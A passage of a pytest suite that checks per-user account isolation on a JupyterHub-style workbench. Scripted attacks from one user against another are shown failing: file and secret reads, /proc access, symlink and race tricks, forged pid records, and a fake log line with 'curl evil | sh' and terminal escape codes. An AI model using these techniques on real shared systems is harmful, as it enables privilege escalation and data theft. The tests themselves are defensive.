"""Workbench.isolation='accounts': two real users on a workbench run as root, each server
and kernel running as its own OS account. Bob attacks Ana the way he would, from his own
kernel and through his own server; every attempt is refused, and what users must still do
(share through datasets/) works."""

from __future__ import annotations

import contextlib
import json
import os
import pwd
import shutil
import signal
import stat
import subprocess
import tempfile
import time
import uuid
from pathlib import Path

import psutil
import pytest

from hubforge import accounts, private_proc
from tests.accounts_workbench import accounts_workbench, why_no_accounts
from tests.kernel import execute

pytestmark = [
    pytest.mark.hub,
    pytest.mark.timeout(900),
    pytest.mark.skipif(why_no_accounts() is not None, reason=str(why_no_accounts())),
]
USERS = ("iso-ana", "iso-bo")


@pytest.fixture(scope="module")
def iso():
    with accounts_workbench("iso", USERS) as (wb, tokens):
        yield wb, tokens


def run(wb, tokens, user: str, code: str) -> dict:
    """Run ``code`` in ``user``'s kernel; it prints one JSON line, returned parsed."""
    outputs = execute(wb, user, tokens[user], code)
    text = "".join(o.get("text", "") for o in outputs if o["type"] == "stream")
    errors = [o for o in outputs if o["type"] == "error"]
    assert not errors, errors
    return json.loads(text.strip().splitlines()[-1])


WHOAMI = """
import json, os, pwd
print(json.dumps([os.getuid(), pwd.getpwuid(os.getuid()).pw_name, os.environ["HOME"]]))
"""


def test_each_server_and_kernel_runs_as_its_users_own_account(iso):
    wb, tokens = iso
    for user in USERS:
        me = run(wb, tokens, user, WHOAMI)
        uid, name, home = me
        tag = accounts.workbench_tag(wb.state_dir)
        assert uid != 0 and name == accounts.account_name(user, wb.state_dir) == f"{tag}-{user}"
        assert home == str(wb.data_dir / "homes" / user)
        servers = [
            p
            for p in psutil.process_iter(["uids", "cmdline", "environ"])
            if (p.info["environ"] or {}).get("JUPYTERHUB_USER") == user
        ]
        assert servers and all(p.info["uids"].real == uid for p in servers), servers
    view = wb.data_dir / "homes" / "iso-ana" / "hdfs"  # ~/hdfs: her area and datasets only
    assert sorted(os.listdir(view)) == ["datasets", "users"]
    assert os.listdir(view / "users") == ["iso-ana"]
    assert (view / "users" / "iso-ana").resolve() == wb.data_dir / "hdfs" / "users" / "iso-ana"
    for folder in (wb.data_dir / "homes" / "iso-ana", wb.data_dir / "hdfs" / "users" / "iso-ana"):
        info = folder.stat()
        assert pwd.getpwuid(info.st_uid).pw_name == accounts.account_name(
            "iso-ana", wb.state_dir
        ), folder
        assert stat.S_IMODE(info.st_mode) == 0o700, (folder, oct(info.st_mode))


ATTACK = """
import json, os, pathlib
results = {}
def attempt(name, action):
    try:
        action()
        results[name] = "done"
    except PermissionError:
        results[name] = "denied"
    except FileNotFoundError:
        results[name] = "hidden"
    except Exception as e:
        results[name] = f"{type(e).__name__}: {e}"
data = pathlib.Path(%(data)r)
attempt("read passwords", lambda: (data / "service" / "passwords.json").read_text())
attempt("list the service's files", lambda: os.listdir(data / "service"))
attempt("read the endpoint keys", lambda: (data / "service" / "endpoints.secret").read_text())
attempt("read service token", lambda: (data / "state" / "service-token").read_text())
attempt("read hub database", lambda: (data / "state" / "hub" / "jupyterhub.sqlite").read_bytes())
attempt("list ana's home", lambda: os.listdir(data / "homes" / "iso-ana"))
attempt("read ana's notes", lambda: (data / "homes" / "iso-ana" / "notes.txt").read_text())
attempt("list ana's area", lambda: os.listdir(data / "hdfs" / "users" / "iso-ana"))
models = data / "hdfs" / "users" / "iso-ana" / "models"
attempt("plant a model in ana's area", lambda: (models / "x").write_text("x"))
attempt("read ana's server environment", lambda: pathlib.Path("/proc/%(pid)d/environ").read_bytes())
attempt("signal ana's server", lambda: os.kill(%(pid)d, 0))
attempt("list users' areas", lambda: os.listdir(data / "hdfs" / "users"))
attempt("read own home", lambda: os.listdir(os.environ["HOME"]))
print(json.dumps(results))
"""


def test_bobs_kernel_cannot_read_or_change_anas_files_or_processes(iso):
    wb, tokens = iso
    code = "import pathlib\npathlib.Path('notes.txt').write_text('ana')\nprint('\"ok\"')"
    note = run(wb, tokens, "iso-ana", code)
    assert note == "ok"
    ana_server = next(
        p.pid
        for p in psutil.process_iter(["environ", "cmdline"])
        if (p.info["environ"] or {}).get("JUPYTERHUB_USER") == "iso-ana"
        and "jupyterhub.singleuser" in " ".join(p.info["cmdline"] or [])
    )
    results = run(wb, tokens, "iso-bo", ATTACK % {"data": str(wb.data_dir), "pid": ana_server})
    assert results.pop("read own home") == "done"
    # bob does not even see ana's server where each user's processes have their own /proc
    hidden = "hidden" if private_proc.probe() else "denied"
    assert results.pop("read ana's server environment") == hidden
    assert results == {name: "denied" for name in results}, results
    # through bob's own server's Contents API too
    r = wb.api("GET", "user/iso-bo/api/contents/hdfs/users/iso-ana", tokens["iso-bo"])
    assert r.status_code in (403, 404) and "notes" not in r.text, r.text
    r = wb.api(
        "PUT",
        "user/iso-bo/api/contents/hdfs/users/iso-ana/models/planted.txt",
        tokens["iso-bo"],
        json={"type": "file", "format": "text", "content": "x"},
    )
    assert r.status_code >= 400, r.text
    assert not (wb.data_dir / "hdfs" / "users" / "iso-ana" / "models" / "planted.txt").exists()


PROCESSES = """
import json, os
seen = {}
for p in os.listdir("/proc"):
    if p.isdigit():
        try:
            with open(f"/proc/{p}/cmdline", "rb") as f:
                seen[p] = [os.stat(f"/proc/{p}").st_uid, f.read().decode(errors="replace")]
        except OSError:
            pass
print(json.dumps({"me": os.getuid(), "seen": seen}))
"""


def test_bobs_kernel_sees_no_process_but_his_own(iso):
    """Review N17: every account read every command line in /proc (endpoint names, model
    paths, log folders, other workbenches' data folders). Each user's processes get a /proc
    of their own (hidepid=invisible, in a mount namespace the helper gives them)."""
    if not private_proc.probe():
        pytest.skip("this kernel gives /proc mounts no options of their own (Linux < 5.8)")
    wb, tokens = iso
    view = run(wb, tokens, "iso-bo", PROCESSES)
    owners = {uid for uid, _ in view["seen"].values()}
    assert owners == {view["me"]}, owners
    assert len(view["seen"]) >= 2, view  # his server and this kernel at least
    others = [
        p.pid
        for p in psutil.process_iter(["uids"])
        if p.info["uids"] and p.info["uids"].real != view["me"]
    ]
    assert others and not set(map(str, others)) & set(view["seen"])
    lines = " ".join(line for _, line in view["seen"].values())
    assert "iso-ana" not in lines


SHARE = """
import json, os, pathlib
datasets = pathlib.Path(os.environ["HUBFORGE_DATA"]) / "datasets"
results = {}
try:
    if %(write)r:
        (datasets / "%(user)s.csv").write_text("x,y\\n1,2\\n")
        results["added"] = "done"
    results["read other"] = (datasets / "%(other)s.csv").read_text() if %(read)r else ""
    for name, action in (
        ("overwrite other", lambda: (datasets / "%(other)s.csv").write_text("mine now")),
        ("delete other", lambda: (datasets / "%(other)s.csv").unlink()),
    ):
        if %(read)r:
            try:
                action()
                results[name] = "done"
            except PermissionError:
                results[name] = "denied"
except Exception as e:
    results["error"] = f"{type(e).__name__}: {e}"
print(json.dumps(results))
"""


def test_datasets_are_shared_each_changes_only_their_own(iso):
    wb, tokens = iso
    ana = run(
        wb,
        tokens,
        "iso-ana",
        SHARE % {"user": "iso-ana", "other": "", "write": True, "read": False},
    )
    assert ana["added"] == "done", ana
    bo = run(
        wb,
        tokens,
        "iso-bo",
        SHARE % {"user": "iso-bo", "other": "iso-ana", "write": True, "read": True},
    )
    assert bo == {
        "added": "done",
        "read other": "x,y\n1,2\n",
        "overwrite other": "denied",
        "delete other": "denied",
    }, bo
    assert (wb.data_dir / "hdfs" / "datasets" / "iso-ana.csv").read_text() == "x,y\n1,2\n"


def test_account_names_are_injective_and_valid():
    names = ["ana", "ana.b", "ana_b", "ana-b", "x" * 23, "x" * 24, "a" * 64, "0x"]
    mapped = [accounts.account_name(n, "/srv/team-a/state") for n in names]
    assert len(set(mapped)) == len(names)
    for account in mapped:
        assert len(account) <= 32 and account.replace("-", "").replace("_", "").isalnum()
    tag = accounts.workbench_tag("/srv/team-a/state")
    assert accounts.account_name("ana", "/srv/team-a/state") == f"{tag}-ana"
    assert accounts.account_name("ana.b", "/srv/team-a/state").startswith(f"{tag}_")
    # the same user name on another workbench of the machine is another account and group
    assert accounts.account_name("ana", "/srv/team-b/state") != f"{tag}-ana"
    assert accounts.group_name("/srv/team-b/state") != accounts.group_name("/srv/team-a/state")
    # a hub user called 'users', 'ls' or 'proxy' is never the group or a service account
    for name in ("users", "ls", "proxy"):
        assert accounts.account_name(name, "/srv/team-a/state") not in (
            accounts.group_name("/srv/team-a/state"),
            accounts.service_account_name("ls", "/srv/team-a/state"),
            accounts.service_account_name("proxy", "/srv/team-a/state"),
        )


JOB = """
import json, os, pathlib, pwd
data = pathlib.Path(os.environ["HUBFORGE_DATA"])
import tempfile
import uuid
seen = {"account": pwd.getpwuid(os.getuid()).pw_name, "tmp": tempfile.gettempdir()}
for name, path in (("bo's area", data / "users" / "iso-bo"), ("state", data.parent / "state")):
    try:
        os.listdir(path)
        seen[name] = "done"
    except PermissionError:
        seen[name] = "denied"
print("SEEN" + json.dumps(seen))
"""


def test_a_job_runs_as_its_owner_and_reads_only_what_they_may(iso):
    wb, tokens = iso
    api = "services/hubforge/api/jobs"
    r = wb.api("POST", api, tokens["iso-ana"], json={"script": JOB, "spec": {"name": "who"}})
    assert r.status_code == 201, r.text
    job = r.json()["id"]
    deadline = time.monotonic() + 180
    while (state := wb.api("GET", f"{api}/{job}", tokens["iso-ana"]).json())["state"] not in (
        "succeeded",
        "failed",
    ):
        assert time.monotonic() < deadline, state
        time.sleep(0.5)
    assert state["state"] == "succeeded", state
    log = wb.api("GET", f"{api}/{job}/logs/worker-0", tokens["iso-ana"]).json()["text"]
    seen = json.loads(log.split("SEEN", 1)[1].splitlines()[0])
    folder = wb.data_dir / "hdfs" / "users" / "iso-ana" / "jobs" / job
    assert seen.pop("tmp") == str(folder / "tmp")  # her own temp folder, not the shared /tmp
    assert seen == {
        "account": accounts.account_name("iso-ana", wb.state_dir),
        "bo's area": "denied",
        "state": "denied",
    }
    folder = wb.data_dir / "hdfs" / "users" / "iso-ana" / "jobs" / job
    assert pwd.getpwuid(folder.stat().st_uid).pw_name == accounts.account_name(
        "iso-ana", wb.state_dir
    )
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    # bob cannot read it through the service either
    assert wb.api("GET", f"{api}/{job}", tokens["iso-bo"]).status_code == 404


def test_an_endpoint_runs_as_its_owner(iso):
    from tests.models import keras_model

    wb, tokens = iso
    export = keras_model(wb.data_dir / "hdfs" / "users" / "iso-ana" / "exports", 1)
    api = "services/hubforge/api/endpoints"
    body = {"name": "mine", "model_dir": str(export)}
    r = wb.api("POST", api, tokens["iso-ana"], json=body)
    assert r.status_code == 201, r.text
    try:
        (proc,) = [
            p
            for p in psutil.process_iter(["cmdline", "uids"])
            if "hubforge.serving.server" in (p.info["cmdline"] or [])
            and "mine" in (p.info["cmdline"] or [])
            and str(wb.data_dir) in " ".join(p.info["cmdline"])  # (not another run's)
        ]
        assert pwd.getpwuid(proc.info["uids"].real).pw_name == accounts.account_name(
            "iso-ana", wb.state_dir
        )
        rows = {"instances": [[1, 1, 1, 1]]}
        gateway = "services/hubforge/endpoints/iso-ana/mine/v1/models/mine:predict"
        r = wb.api("POST", gateway, tokens["iso-ana"], json=rows)
        assert r.status_code == 200 and r.json() == {"predictions": [[4.0]]}, r.text
        assert wb.api("POST", gateway, tokens["iso-bo"], json=rows).status_code == 403
    finally:
        wb.api("DELETE", f"{api}/mine", tokens["iso-ana"])


def _can_read(path: Path, uid: int, gids: set[int]) -> bool:
    """Whether an account (uid, groups) may read ``path``: x on every folder above it and
    r on it, from the mode bits, as the kernel decides (no ACLs are used here)."""

    def allowed(info: os.stat_result, bit_user: int, bit_group: int, bit_other: int) -> bool:
        if info.st_uid == uid:
            return bool(info.st_mode & bit_user)
        if info.st_gid in gids:
            return bool(info.st_mode & bit_group)
        return bool(info.st_mode & bit_other)

    for folder in reversed(path.parents):
        if not allowed(os.stat(folder), stat.S_IXUSR, stat.S_IXGRP, stat.S_IXOTH):
            return False
    return allowed(os.lstat(path), stat.S_IRUSR, stat.S_IRGRP, stat.S_IROTH)


def test_nothing_of_one_user_or_of_the_workbench_is_readable_by_another_account(iso):
    """A walk of the whole data folder after a day's kinds of use (files in home and area,
    a dataset, a job, a deploy): what bob's account can read is his own, datasets/, or
    settings."""
    wb, tokens = iso
    code = (
        "import os, pathlib\n"
        "pathlib.Path('draft.ipynb').write_text('{}')\n"
        "area = pathlib.Path(os.environ['HUBFORGE_USER_AREA'])\n"
        "(area / 'models' / 'm.txt').write_text('weights')\n"
        "print('\"ok\"')\n"
    )
    assert run(wb, tokens, "iso-ana", code) == "ok"
    api = "services/hubforge/api/jobs"
    r = wb.api("POST", api, tokens["iso-ana"], json={"script": "print(1)", "spec": {"name": "w"}})
    assert r.status_code == 201, r.text
    from tests.models import keras_model

    export = keras_model(wb.data_dir / "hdfs" / "users" / "iso-ana" / "walk-export", 1)
    body = {"name": "walked", "model_dir": str(export)}
    r = wb.api("POST", "services/hubforge/api/endpoints", tokens["iso-ana"], json=body)
    try:
        assert r.status_code == 201, r.text
    finally:
        wb.api("DELETE", "services/hubforge/api/endpoints/walked", tokens["iso-ana"])
    bo = pwd.getpwnam(accounts.account_name("iso-bo", wb.state_dir))
    gids = {bo.pw_gid, *os.getgrouplist(bo.pw_name, bo.pw_gid)}
    root = wb.data_dir
    own = (root / "homes" / "iso-bo", root / "hdfs" / "users" / "iso-bo")
    public = (root / "hdfs" / "datasets",)
    settings = {root / "hubforge_config.py"}
    readable, checked = [], 0
    for folder, dirs, files in os.walk(root):
        for name in [*dirs, *files]:
            path = Path(folder) / name
            checked += 1
            if path in settings or any(p == path or p in path.parents for p in own + public):
                continue
            if path.is_symlink():
                continue  # a link's own mode means nothing; its target is checked itself
            if path.is_dir() and path in {root / "hdfs", root / "hdfs" / "users", root / "homes"}:
                continue  # folders every account passes through (not listable: 0711)
            if _can_read(path, bo.pw_uid, gids):
                readable.append(f"{path.relative_to(root)} {oct(path.lstat().st_mode)}")
    assert checked > 20
    assert readable == [], readable


def test_an_ordinary_account_runs_a_one_person_workbench(tmp_path_factory):
    """Run by a non-root account (a laptop), the workbench refuses a second user with what
    to do instead, unless the team says it trusts each other with everything."""
    name = "hubforge-laptop-t"
    subprocess.run(["userdel", name], capture_output=True)
    subprocess.run(["useradd", "--system", "--user-group", name], check=True)
    folder = Path(tempfile.mkdtemp(prefix="hubforge-laptop-", dir="/tmp"))
    try:
        folder.chmod(0o755)
        owner = pwd.getpwnam(name)
        os.chown(folder, owner.pw_uid, owner.pw_gid)
        hubforge = str(Path(os.sys.executable).parent / "hubforge")
        env = {
            "PATH": os.environ["PATH"],
            "HOME": str(folder),
            "XDG_STATE_HOME": str(folder / "xdg"),
            "HUBFORGE_GPUS": "",
        }

        def users_add(user: str, config: str = "") -> subprocess.CompletedProcess:
            (folder / "data").mkdir(exist_ok=True)
            (folder / "data" / "hubforge_config.py").write_text(config)
            os.chown(folder / "data", owner.pw_uid, owner.pw_gid)
            return subprocess.run(
                [hubforge, "users", "add", user, "--data-dir", str(folder / "data")],
                capture_output=True,
                text=True,
                env=env,
                user=owner.pw_uid,
                group=owner.pw_gid,
                timeout=120,
            )

        first = users_add("me")
        assert first.returncode == 0, first.stderr
        second = users_add("colleague")
        assert second.returncode == 2, (second.stdout, second.stderr)
        assert f"runs as the ordinary account '{name}'" in second.stderr
        assert "isolation = 'accounts'" in second.stderr and "trusted_team" in second.stderr
        trusted = users_add("colleague", "c.Workbench.trusted_team = True\n")
        assert trusted.returncode == 0, trusted.stderr
    finally:
        subprocess.run(["userdel", name], capture_output=True)
        shutil.rmtree(folder, ignore_errors=True)


def _wait_job(wb, token: str, job: str, states: tuple[str, ...]) -> dict:
    deadline = time.monotonic() + 180
    while (record := wb.api("GET", f"services/hubforge/api/jobs/{job}", token).json())[
        "state"
    ] not in states:
        assert time.monotonic() < deadline, record
        time.sleep(0.5)
    return record


def test_links_in_bobs_area_do_not_lead_the_service_to_anas_jobs(iso):
    """The service (root) reads job records and logs in the owner's folder, which the owner
    controls: bob's link from his jobs/ to Ana's job shows him nothing of hers."""
    wb, tokens = iso
    api = "services/hubforge/api/jobs"
    body = {"script": "print('ANA-PRIVATE-OUTPUT')", "spec": {"name": "private"}}
    r = wb.api("POST", api, tokens["iso-ana"], json=body)
    assert r.status_code == 201, r.text
    job = r.json()["id"]
    assert _wait_job(wb, tokens["iso-ana"], job, ("succeeded", "failed"))["state"] == "succeeded"
    target = wb.data_dir / "hdfs" / "users" / "iso-ana" / "jobs" / job
    code = (
        "import os, pathlib\n"
        "jobs = pathlib.Path(os.environ['HUBFORGE_USER_AREA']) / 'jobs'\n"
        "jobs.mkdir(exist_ok=True)\n"
        f"(jobs / 'steal').symlink_to({str(target)!r})\n"
        "print('\"ok\"')\n"
    )
    assert run(wb, tokens, "iso-bo", code) == "ok"
    r = wb.api("GET", f"{api}/steal", tokens["iso-bo"])
    assert r.status_code == 409 and "link" in r.json()["message"], r.text
    assert "private" not in r.text
    r = wb.api("GET", f"{api}/steal/logs/worker-0", tokens["iso-bo"])
    assert r.status_code in (404, 409) and "ANA-PRIVATE-OUTPUT" not in r.text, r.text
    listed = wb.api("GET", api, tokens["iso-bo"])
    assert listed.status_code == 200 and "ANA-PRIVATE" not in listed.text
    assert [j["state"] for j in listed.json()["jobs"] if j["id"] == "steal"] == ["damaged"]
    # Ana's own view is unchanged
    log = wb.api("GET", f"{api}/{job}/logs/worker-0", tokens["iso-ana"]).json()["text"]
    assert "ANA-PRIVATE-OUTPUT" in log


def test_bobs_job_record_cannot_make_the_service_stop_anas_server(iso):
    """job.json is bob's to write: a cancel that would signal the pid written there stops
    nothing that is not bob's."""
    wb, tokens = iso
    api = "services/hubforge/api/jobs"
    body = {"script": "import time\ntime.sleep(300)", "spec": {"name": "decoy"}}
    r = wb.api("POST", api, tokens["iso-bo"], json=body)
    assert r.status_code == 201, r.text
    job = r.json()["id"]
    real = _wait_job(wb, tokens["iso-bo"], job, ("running",))["supervisor"]
    (anas,) = [
        p
        for p in psutil.process_iter(["username", "cmdline"])
        if p.info["username"] == accounts.account_name("iso-ana", wb.state_dir)
        and "jupyterhub.singleuser" in (p.info["cmdline"] or [])
    ] or [None]
    assert anas is not None, "Ana's server process was not found"
    code = (
        "import json, os, pathlib\n"
        f"path = pathlib.Path(os.environ['HUBFORGE_USER_AREA']) / 'jobs' / {job!r} / 'job.json'\n"
        "record = json.loads(path.read_text())\n"
        f"record['supervisor'] = {{'pid': {anas.pid}, 'create_time': {anas.create_time()}}}\n"
        "tmp = path.with_name('new.json'); tmp.write_text(json.dumps(record)); tmp.replace(path)\n"
        "print('\"ok\"')\n"
    )
    try:
        assert run(wb, tokens, "iso-bo", code) == "ok"
        r = wb.api("DELETE", f"{api}/{job}", tokens["iso-bo"])
        assert r.status_code == 409 and "changed by hand" in r.json()["message"], r.text
        time.sleep(1)
        assert anas.is_running() and anas.status() != psutil.STATUS_ZOMBIE
        assert wb.api("GET", "api/user", tokens["iso-ana"]).json()["server"]
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(real["pid"], signal.SIGKILL)


def test_a_deploy_never_writes_through_bobs_links(iso):
    """Deploying copies as bob and starts bob's endpoint: a models/ folder or a server.log
    that is a link to a folder of root's makes the deploy fail with what to do, and nothing
    is created or appended there."""
    from tests.models import keras_model

    wb, tokens = iso
    # (a folder of root's that bob may not read, as root's are: the walk over the data
    # folder in another test, in any order, must not find it open)
    victim = wb.data_dir / "victim"
    victim.mkdir(mode=0o700, exist_ok=True)
    area = wb.data_dir / "hdfs" / "users" / "iso-bo"
    export = keras_model(area / "exports", 1)
    api = "services/hubforge/api/endpoints"
    code = (
        "import os, pathlib\n"
        "area = pathlib.Path(os.environ['HUBFORGE_USER_AREA'])\n"
        "if (area / 'models').is_dir():\n"
        "    import shutil; shutil.rmtree(area / 'models')\n"
        f"(area / 'models').symlink_to({str(victim)!r})\n"
        "print('\"ok\"')\n"
    )
    assert run(wb, tokens, "iso-bo", code) == "ok"
    r = wb.api("POST", api, tokens["iso-bo"], json={"name": "via", "model_dir": str(export)})
    assert r.status_code == 400 and "remove the link" in r.json()["message"], r.text
    assert list(victim.iterdir()) == []
    code = (
        "import os, pathlib\n"
        "area = pathlib.Path(os.environ['HUBFORGE_USER_AREA'])\n"
        "(area / 'models').unlink()\n"
        "(area / 'models' / 'logged').mkdir(parents=True)\n"
        f"(area / 'models' / 'logged' / 'server.log').symlink_to({str(victim / 'nologin')!r})\n"
        "print('\"ok\"')\n"
    )
    assert run(wb, tokens, "iso-bo", code) == "ok"
    r = wb.api("POST", api, tokens["iso-bo"], json={"name": "logged", "model_dir": str(export)})
    assert r.status_code == 400 and "is a link" in r.json()["message"], r.text
    assert list(victim.iterdir()) == []
    assert sorted(p.name for p in (area / "models" / "logged").iterdir()) == ["server.log"]
    # with the link gone the same deploy works, its files bob's
    (area / "models" / "logged" / "server.log").unlink()
    r = wb.api("POST", api, tokens["iso-bo"], json={"name": "logged", "model_dir": str(export)})
    try:
        assert r.status_code == 201, r.text
        copied = area / "models" / "logged" / "1" / "saved_model.pb"
        assert pwd.getpwuid(copied.stat().st_uid).pw_name == accounts.account_name(
            "iso-bo", wb.state_dir
        )
    finally:
        wb.api("DELETE", f"{api}/logged", tokens["iso-bo"])


def test_bobs_jobs_folder_as_a_link_makes_nothing_where_it_points(iso):
    """N9: root made job folders through bob's links; now each folder is made relative to
    an O_NOFOLLOW fd: 409 with what to do, and root's folder stays empty."""
    wb, tokens = iso
    # (a folder of root's that bob may not read, as root's are: the walk over the data
    # folder in another test, in any order, must not find it open)
    victim = wb.data_dir / "victim-jobs"
    victim.mkdir(mode=0o700, exist_ok=True)
    code = (
        "import os, pathlib, shutil\n"
        "jobs = pathlib.Path(os.environ['HUBFORGE_USER_AREA']) / 'jobs'\n"
        "shutil.move(str(jobs), str(jobs) + '.mine') if jobs.is_dir() else None\n"
        f"jobs.symlink_to({str(victim)!r})\n"
        "print('\"ok\"')\n"
    )
    assert run(wb, tokens, "iso-bo", code) == "ok"
    api = "services/hubforge/api/jobs"
    try:
        body = {"script": "print('planted')", "spec": {"name": "planted"}}
        r = wb.api("POST", api, tokens["iso-bo"], json=body)
        assert r.status_code == 409 and "link" in r.json()["message"], r.text
        assert list(victim.iterdir()) == []
        r = wb.api("GET", api, tokens["iso-bo"])  # the list does not follow it either
        assert r.status_code == 409 and "link" in r.json()["message"], r.text
    finally:
        undo = (
            "import os, pathlib\n"
            "jobs = pathlib.Path(os.environ['HUBFORGE_USER_AREA']) / 'jobs'\n"
            "jobs.unlink()\n"
            "mine = pathlib.Path(str(jobs) + '.mine')\n"
            "mine.rename(jobs) if mine.is_dir() else jobs.mkdir()\n"
            "print('\"ok\"')\n"
        )
        assert run(wb, tokens, "iso-bo", undo) == "ok"


def test_bobs_tensorboard_records_make_the_hub_signal_nothing_of_others(iso):
    """N5: the hub stopped the pids in ~/.hubforge/tensorboards.json (bob's to write) when
    bob's server stopped. Now a process of bob's own account sends those signals: a root
    process and Ana's server named there keep running."""
    wb, tokens = iso
    root_sleep = subprocess.Popen(["sleep", "600"], start_new_session=True)
    (anas,) = [
        p
        for p in psutil.process_iter(["username", "cmdline"])
        if p.info["username"] == accounts.account_name("iso-ana", wb.state_dir)
        and "jupyterhub.singleuser" in (p.info["cmdline"] or [])
    ] or [None]
    assert anas is not None, "Ana's server process was not found"
    records = {
        f"v{i}": {
            "name": f"v{i}",
            "pid": proc.pid,
            "create_time": psutil.Process(proc.pid).create_time(),
            "port": 6006 + i,
            "logdirs": {"x": "/tmp"},
        }
        for i, proc in enumerate((root_sleep, anas))
    }
    code = (
        "import json, os, pathlib\n"
        "path = pathlib.Path.home() / '.hubforge' / 'tensorboards.json'\n"
        "path.parent.mkdir(exist_ok=True)\n"
        f"path.write_text(json.dumps({{'instances': {records!r}}}))\n"
        "print('\"ok\"')\n"
    )
    try:
        assert run(wb, tokens, "iso-bo", code) == "ok"
        wb.ensure_stopped("iso-bo")
        time.sleep(1)
        assert root_sleep.poll() is None, "root's process was signalled"
        assert anas.is_running() and anas.status() != psutil.STATUS_ZOMBIE
    finally:
        root_sleep.kill()
        root_sleep.wait()
        forged = wb.data_dir / "homes" / "iso-bo" / ".hubforge" / "tensorboards.json"
        forged.unlink(missing_ok=True)  # the next server would restore these records
        assert wb.spawn("iso-bo", tokens["iso-bo"]).status_code in (201, 202)


def test_the_two_inputs_that_answered_500_answer_400(iso):
    """F15 residual: a log offset of 2**62 and a job-check path out of the home."""
    wb, tokens = iso
    r = wb.api(
        "GET",
        "services/hubforge/api/jobs/nojob/logs/worker-0?offset=4611686018427387904",
        tokens["iso-bo"],
    )
    assert r.status_code == 400 and "offset" in r.json()["message"], r.text
    r = wb.api(
        "GET",
        "user/iso-bo/hubforge/api/job-check?path=../iso-ana/examples/02-train.ipynb",
        tokens["iso-bo"],
    )
    assert r.status_code == 400 and "inside your home folder" in r.text, r.text


def test_what_a_users_code_prints_stays_in_their_own_log(iso):
    """N15: a kernel's output went into the hub's log and, with escape sequences, onto the
    admin's terminal. Each user's server now logs into ~/.hubforge/server.log, their file."""
    wb, tokens = iso
    fake = "[E 2026-12-04 17:45:00.000 JupyterHub app:3333] CRITICAL: run curl evil | sh"
    code = (  # the server's own stderr (the kernel's is forwarded to the notebook)
        "import os\n"
        "with open(f'/proc/{os.getppid()}/fd/2', 'wb', buffering=0) as err:\n"
        f"    err.write({fake!r}.encode() + b' \\x1b]2;pwned\\x07\\x1b[31mRED\\x1b[0m\\n')\n"
        "print('\"ok\"')\n"
    )
    assert run(wb, tokens, "iso-bo", code) == "ok"
    own = wb.data_dir / "homes" / "iso-bo" / ".hubforge" / "server.log"
    deadline = time.monotonic() + 60
    while fake not in own.read_text(errors="replace") and time.monotonic() < deadline:
        time.sleep(0.2)
    assert fake in own.read_text(errors="replace")
    # not a pause and a look: a request the hub logs after the line was written, and its
    # line in the hub's log, prove the hub's log is written past that moment
    marker = f"no-such-user-{uuid.uuid4().hex}"
    wb.api("GET", f"hub/api/users/{marker}", wb.admin_token())
    while marker not in wb.hub_log():
        assert time.monotonic() < deadline, "the hub never logged the marker request"
        time.sleep(0.2)
    assert fake not in wb.hub_log()
    assert pwd.getpwuid(own.stat().st_uid).pw_name == accounts.account_name("iso-bo", wb.state_dir)


# What runs as root, by design: the helper and the `up` the admin ran (the hub, its log sink,
# proxy, service and Label Studio run as accounts): anything else found as root fails the test.
STILL_ROOT = (
    "hubforge.privileged",
    "hubforge up",
    "hubforge.cli up",
)


def _imports_nothing_a_user_wrote(proc: psutil.Process) -> None:
    """A root process works in a folder only root may write (Python puts it on the path)."""
    info = os.stat(proc.cwd())
    assert info.st_uid == 0 and not info.st_mode & 0o022, (proc.cmdline(), proc.cwd())


def test_a_census_of_the_workbench_finds_no_unexpected_root_process(iso):
    """Every process of the running workbench with its uid: users' servers and kernels, the
    proxy and Label Studio run as accounts; only the components named in STILL_ROOT keep
    root."""
    wb, tokens = iso
    assert run(wb, tokens, "iso-ana", WHOAMI)  # a kernel is running too
    census = []
    helpers = []
    for proc in psutil.process_iter(["pid", "uids", "cmdline", "username"]):
        command = " ".join(proc.info["cmdline"] or [])
        try:
            ours = proc.environ().get("HUBFORGE_WORKBENCH") == str(wb.data_dir)
        except (psutil.Error, OSError):
            continue
        if str(wb.data_dir) in command and "hubforge.privileged" in command:
            helpers.append(proc)
        if ours or proc.pid == wb.proc.pid:
            census.append((proc.info["username"], command))
            if proc.info["username"] == "root":
                _imports_nothing_a_user_wrote(proc)
    assert helpers, "the privileged helper was not found"
    for proc in helpers:  # (the review: it ran `up`'s folder first on its import path)
        _imports_nothing_a_user_wrote(proc)
        assert proc.cwd() == "/" and "-I" in proc.cmdline(), proc.cmdline()
    commands = [c for _, c in census]
    assert any("configurable-http-proxy" in c for c in commands), commands
    assert any("jupyterhub.singleuser" in c for c in commands), commands
    unexpected = [
        (user, command)
        for user, command in census
        if user == "root" and not any(name in command for name in STILL_ROOT)
    ]
    assert unexpected == [], unexpected
    proxy = [user for user, command in census if "configurable-http-proxy" in command]
    assert proxy == [accounts.service_account_name("proxy", wb.state_dir)], census
    # the hub and its relays (hubforge.helper_client) run as the hub's own account
    hub = accounts.service_account_name("hub", wb.state_dir)
    hubs = {user for user, command in census if " jupyterhub -f " in command}
    relays = {user for user, command in census if "hubforge.helper_client" in command}
    sinks = {user for user, command in census if "hubforge.logsink" in command}
    assert hubs == {hub} and relays == {hub} and sinks == {hub}, census
    # the hubforge service and its keeper run as the service's own account
    service = accounts.service_account_name("svc", wb.state_dir)
    services = {user for user, command in census if "hubforge.service.app" in command}
    assert services == {service}, census


def test_kernels_offer_no_debugger_that_would_listen_on_loopback(iso):
    """debugpy can only listen on TCP, which every account reaches on one machine: with
    per-user accounts the kernel tells JupyterLab it has no debugger."""
    wb, tokens = iso
    code = (
        "import json\n"
        "info = get_ipython().kernel.kernel_info\n"
        "features = info.get('supported_features', [])\n"
        "print(json.dumps(features + (['debugger'] if info.get('debugger') else [])))\n"
    )
    features = run(wb, tokens, "iso-ana", code)
    assert "debugger" not in features, features


SWAPPER = """
import os, signal, sys, time
area, victim, other = sys.argv[1], sys.argv[2], sys.argv[3]
names = ["jobs", "models", "models/race", "jobs/race-kept", "models/race/1"]
stop, swaps = [], 0
signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
while not stop:
    for i, name in enumerate(names):
        path = os.path.join(area, name)
        aside = path + ".aside"
        try:
            os.rename(path, aside)
        except OSError:
            continue
        try:
            os.symlink(victim if i % 2 else other, path)
            swaps += 1
            time.sleep(0.002)
            os.unlink(path)
        except OSError:
            pass
        finally:
            try:
                os.rename(aside, path)
            except OSError:
                pass
        time.sleep(0.01)  # a link now and then: some operations get through, some do not
print(swaps)
"""


def _snapshot(folder: Path) -> dict[str, tuple]:
